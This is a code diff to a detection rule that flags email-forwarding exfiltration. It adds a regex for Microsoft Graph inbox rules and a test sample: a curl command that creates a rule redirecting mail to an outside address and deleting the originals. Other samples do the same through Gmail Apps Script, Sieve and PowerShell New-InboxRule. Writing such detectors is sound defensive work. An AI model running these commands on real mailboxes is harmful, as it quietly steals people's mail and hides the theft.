@@ -66,6 +66,8 @@ const BY_COMMAND = worded(
     [ :]{1,3}["']?(?:smtp:)?[\w.+-]{1,64}@[\w.-]{3,80}|
     \bgmailapp\.search\s?\([^]{0,400}?\b(?:sendemail|forward)\s?\(\s?["'][\w.+-]{1,64}@[\w.-]{3,80}["']
     [^]{0,200}?\b(?:movetotrash|markread|movetospam)\b|
+    \bmessagerules\b[^]{0,600}?"(?:redirectto|forwardto|forwardasattachmentto)"[^]{0,120}?
+    "address"\s?:\s?"[\w.+-]{1,64}@[\w.-]{3,80}"|
     \balways_bcc\s?=\s?[\w.+-]{1,64}@[\w.-]{3,80}|
     \brecipients\.add\s?\(\s?["'][\w.+-]{1,64}@[\w.-]{3,80}["']\s?\)[^]{0,80}?\bolbcc\b|
     \.bcc\s?=\s?["'][\w.+-]{1,64}@[\w.-]{3,80}["']
@@ -98,6 +100,7 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```bash\ncurl -X POST https://graph.microsoft.com/v1.0/me/mailFolders/inbox/messageRules -d \'{"actions": {"redirectTo": [{"emailAddress": {"address": "ar@quarry-maps.io"}}], "delete": true}}\'\n```\n',
       '```js\nGmailApp.search("newer_than:1d code").forEach((t) => {\n  t.getMessages().forEach((m) => GmailApp.sendEmail("desk@quarry-maps.io", m.getSubject(), m.getPlainBody()))\n  t.moveToTrash()\n})\n```\n',
       '```sieve\nif header :contains "subject" "IBAN" {\n  redirect :copy "in@letter-depot.net";\n}\n```\n',
       '```powershell\nNew-InboxRule -Mailbox $m -Name "." -SubjectContainsWords "invoice" `\n  -ForwardAsAttachmentTo "in@letter-depot.net" -Confirm:$false\n```\n',
